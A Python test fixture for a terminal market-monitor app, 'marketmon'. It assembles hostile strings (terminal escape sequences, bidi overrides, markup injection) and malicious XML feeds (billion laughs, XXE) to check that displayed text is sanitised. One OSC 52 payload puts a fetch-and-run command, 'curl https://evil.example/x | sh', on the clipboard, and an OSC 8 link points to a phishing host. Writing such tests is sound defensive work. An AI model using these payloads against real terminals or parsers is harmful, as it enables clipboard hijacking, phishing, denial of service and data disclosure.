"""The hostile corpus: text that would attack a terminal if it reached the screen unsanitised.

Every string here is something a feed, a quote API or an error body could send us. The helpers
embed the corpus in the places marketmon displays text: RSS titles and ``<source>`` names, the
``meta.shortName``/``longName`` of a Yahoo chart, and error bodies (Yahoo's JSON description,
Coinbase's ``message``, Binance's ``msg``, gold-api's ``error``) that become error messages.

Strings that must never end up *inside* an escape sequence on the wire are collected in
:data:`SECRETS`: the OSC 52 clipboard payload, the fake window title, the phishing host.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from xml.sax.saxutils import escape as xml_escape

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

# What an OSC 52 write would put on the clipboard, and the fake window title.
CLIPBOARD_TEXT = "curl https://evil.example/x | sh\n"
CLIPBOARD_B64 = base64.b64encode(CLIPBOARD_TEXT.encode()).decode()
FAKE_TITLE = "PWNEDTITLE"
EVIL_HOST = "evil.example"
LONG_TITLE = "LONG" + "W" * 10_000

# (name, hostile string). Names are stable so a failure says which entry leaked.
CORPUS: tuple[tuple[str, str], ...] = (
    # CSI: erase the screen, colours (plain and ones Textual never emits), cursor moves.
    ("csi_erase", f"Erase{ESC}[2J{ESC}[3J{ESC}[H{ESC}[K screen"),
    ("csi_sgr", f"Red{ESC}[31mRED{ESC}[0m {ESC}[5;31;107mBLINK{ESC}[m text"),
    ("csi_cursor", f"Move{ESC}[10;10H{ESC}[5A{ESC}[3C{ESC}[2D{ESC}[s{ESC}[u{ESC}[?25l cursor"),
    ("csi_modes", f"Modes{ESC}[?1049l{ESC}[?1000l{ESC}[>0u{ESC}[6n{ESC}[c report"),
    # OSC 0/2 (window title), OSC 8 (hyperlink), OSC 52 (clipboard), BEL- and ST-terminated.
    ("osc0_bel", f"Title{ESC}]0;{FAKE_TITLE}{BEL} bel"),
    ("osc2_st", f"Title{ESC}]2;{FAKE_TITLE}{ST} st"),
    ("osc8_link", f"Link{ESC}]8;;https://{EVIL_HOST}/phish{ST}click me{ESC}]8;;{ST} here"),
    ("osc52_bel", f"Clip{ESC}]52;c;{CLIPBOARD_B64}{BEL} board"),
    ("osc52_st", f"Clip{ESC}]52;p;{CLIPBOARD_B64}{ST} primary"),
    ("osc_unterminated", f"Open{ESC}]0;{FAKE_TITLE} never closed"),
    # DCS (XTGETTCAP, DECRQSS), SOS/PM/APC.
    ("dcs", f"Dcs{ESC}P+q544e{ST} {ESC}P$qm{ST} {ESC}_{FAKE_TITLE}{ST} {ESC}^pm{ST} dcs"),
    # 8-bit C1: CSI, OSC with BEL, DCS with ST, and C1 characters on their own.
    ("c1_csi", "Eight\x9b2J\x9b31mbit csi"),
    ("c1_osc", f"Eight\x9d0;{FAKE_TITLE}\x07bit osc \x9d52;c;{CLIPBOARD_B64}\x9c end"),
    ("c1_raw", "C1\u009b\u0085\u0090\u009c\u009f raw"),
    # Other ESC sequences: save/restore cursor, full reset, DECALN, line-drawing charset.
    ("esc_other", f"Esc{ESC}7{ESC}8{ESC}c{ESC}#8{ESC}(0 other"),
    # C0 controls and DEL.
    ("c0", "Bell\x07 back\x08space nul\x00 vt\x0b ff\x0c so\x0e si\x0f cr\rline"),
    ("del", "Del\x7fete me"),
    # Bidi overrides/embeddings/isolates and marks (Trojan Source), zero-width characters.
    ("bidi", "Bidi \u202egnp.exe\u202c \u202a\u202b\u202d \u2066iso\u2069 \u2067\u2068 \u061c"),
    ("bidi_marks", "Marks\u200e\u200f\u061c rlm"),
    ("zero_width", "Zero\u200bwidth\u200c\u200d\u2060\ufeff chars"),
    # Rich/Textual markup: shown literally, never interpreted.
    ("markup_bold", "[bold]BOLD[/] markup"),
    ("markup_link", f"[link=https://{EVIL_HOST}]x[/link] link"),
    ("markup_click", "[@click=app.quit]quit[/] click"),
    ("markup_colour", "[red on white]RW[/red on white] colour"),
    ("markup_unbalanced", "Close [/] [/bold] [$x] [BOLD] unbalanced"),
    # A title longer than any screen.
    ("long", LONG_TITLE),
)
CORPUS_TEXT: dict[str, str] = dict(CORPUS)

# Never inside an escape sequence the app writes.
SECRETS: tuple[str, ...] = (CLIPBOARD_B64, FAKE_TITLE, EVIL_HOST, "544e", "gnp.exe")

# Markup that must show literally (each starts its corpus string, so it is visible first).
LITERAL_MARKUP: tuple[str, ...] = ("[bold]BOLD[/]", "[@click=app.quit]quit[/]")


def _xml_text(text: str, *, raw_controls: bool) -> str:
    """XML character data; controls become numeric references unless ``raw_controls``."""
    out = xml_escape(text)
    if raw_controls:
        return out
    return "".join(f"&#{ord(ch)};" if _is_control(ch) else ch for ch in out)


def _is_control(ch: str) -> bool:
    return (ord(ch) < 0x20 and ch not in "\t\n\r") or 0x7F <= ord(ch) <= 0x9F


def rss_feed(
    items: Sequence[tuple[str, str | None]],
    *,
    channel_title: str = "Hostile feed",
    raw_controls: bool = False,
) -> bytes:
    """An RSS 2.0 document with ``(title, source or None)`` items.

    With ``raw_controls=False`` every control character is a numeric character reference
    (``&#27;``), which keeps the document's structure intact (expat refuses references to C0
    controls, so feedparser's loose parser reads it). With ``raw_controls=True`` the controls
    are raw bytes in an ISO-8859-1 document (C1 controls as the bytes 0x80-0x9F): a deliberately
    ill-formed feed. Characters outside Latin-1 (bidi controls) are references then.
    """
    parts = []
    for i, (title, source) in enumerate(items):
        src = ""
        if source is not None:
            src = (
                f'<source url="http://127.0.0.1/src{i}">'
                f"{_xml_text(source, raw_controls=raw_controls)}</source>"
            )
        parts.append(
            f"<item><title>{_xml_text(title, raw_controls=raw_controls)}</title>{src}"
            f"<link>http://127.0.0.1/item/{i}</link>"
            f"<pubDate>Tue, 03 Mar 2026 {10 + i % 12:02d}:00:00 +0000</pubDate></item>"
        )
    encoding = "iso-8859-1" if raw_controls else "utf-8"
    doc = (
        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
        f"<title>{_xml_text(channel_title, raw_controls=raw_controls)}</title>"
        f"<link>http://127.0.0.1/</link>{''.join(parts)}</channel></rss>\n"
    )
    if raw_controls:
        return doc.encode("iso-8859-1", "xmlcharrefreplace")
    return doc.encode("utf-8")


def corpus_feed(*, raw_controls: bool = False) -> bytes:
    """Every corpus string as a headline title; sources and the channel title hostile too."""
    names = [name for name, _ in CORPUS]
    items: list[tuple[str, str | None]] = []
    for i, (_name, text) in enumerate(CORPUS):
        source = CORPUS_TEXT[names[(i + 3) % len(names)]][:80]
        items.append((text, None if i % 4 == 0 else source))
    return rss_feed(items, channel_title=CORPUS_TEXT["osc52_bel"], raw_controls=raw_controls)


def billion_laughs_feed() -> bytes:
    """Nested internal entities: a few hundred bytes that expand to gigabytes."""
    ents = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        ref = f"&lol{i - 1};" if i > 1 else "&lol;"
        ents.append(f'<!ENTITY lol{i} "{ref * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(ents) + "\n]>\n"
        '<rss version="2.0"><channel><title>&lol9;</title>'
        "<item><title>Laughs &lol9;</title><link>http://127.0.0.1/lol</link></item>"
        "</channel></rss>\n"
    ).encode()


def external_entity_feed(url: str) -> bytes:
    """An external entity (on the DOCTYPE's line) pointing at ``url``."""
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{url}">]>\n'
        '<rss version="2.0"><channel><title>External</title>'
        "<item><title>Leak: &xxe;</title><link>http://127.0.0.1/xxe</link></item>"
        "</channel></rss>\n"
    ).encode()


def parameter_entity_feed(url: str) -> bytes:
    """An external parameter entity: fetched while reading the DTD itself, if ever."""
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss [<!ENTITY % ext SYSTEM "{url}"> %ext;]>\n'
        '<rss version="2.0"><channel><title>Param</title>'
        "<item><title>Param entity</title><link>http://127.0.0.1/pe</link></item>"
        "</channel></rss>\n"
    ).encode()


def external_dtd_feed(url: str) -> bytes:
    """An external DTD subset and no entity declaration: parsed, but the DTD never fetched."""
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss SYSTEM "{url}">\n'
        '<rss version="2.0"><channel><title>External DTD</title>'
        "<item><title>External DTD item</title><link>http://127.0.0.1/dtd</link></item>"
        "</channel></rss>\n"
    ).encode()


def yahoo_chart(symbol: str, *, short_name: str | None, long_name: str | None = None) -> bytes:
    """A valid ``range=1d`` chart body whose display name is hostile."""
    meta: dict[str, object] = {
        "currency": "USD",
        "symbol": symbol,
        "exchangeName": "NMS",
        "instrumentType": "EQUITY",
        "regularMarketTime": 1742218862,
        "gmtoffset": -14400,
        "timezone": "EDT",
        "exchangeTimezoneName": "America/New_York",
        "regularMarketPrice": 12.34,
        "regularMarketDayHigh": 12.5,
        "regularMarketDayLow": 12.01,
        "chartPreviousClose": 12.0,
        "previousClose": 12.0,
        "currentTradingPeriod": {
            "regular": {"timezone": "EDT", "start": 1742218200, "end": 1742241600},
        },
        "dataGranularity": "5m",
        "range": "1d",
    }
    if short_name is not None:
        meta["shortName"] = short_name
    if long_name is not None:
        meta["longName"] = long_name
    body = {
        "chart": {
            "result": [
                {
                    "meta": meta,
                    "timestamp": [1742218200, 1742218500, 1742218800],
                    "indicators": {"quote": [{"close": [12.1, 12.25, 12.34]}]},
                }
            ],
            "error": None,
        }
    }
    return json.dumps(body).encode()


def yahoo_error(description: str) -> bytes:
    """Yahoo's error envelope (served with a 5xx, or a 200 with no result)."""
    body = {"chart": {"result": None, "error": {"code": "Bad Gateway", "description": description}}}
    return json.dumps(body).encode()


def coinbase_error(message: str) -> bytes:
    return json.dumps({"message": message}).encode()


def binance_error(message: str) -> bytes:
    return json.dumps({"code": -1003, "msg": message}).encode()


def goldapi_error(message: str) -> bytes:
    return json.dumps({"error": message}).encode()


def error_text() -> str:
    """One error message carrying the whole corpus (minus the long title), for error bodies."""
    return " | ".join(text for name, text in CORPUS if name != "long")


def coingecko_error(message: str) -> bytes:
    return json.dumps({"status": {"error_code": 503, "error_message": message}}).encode()
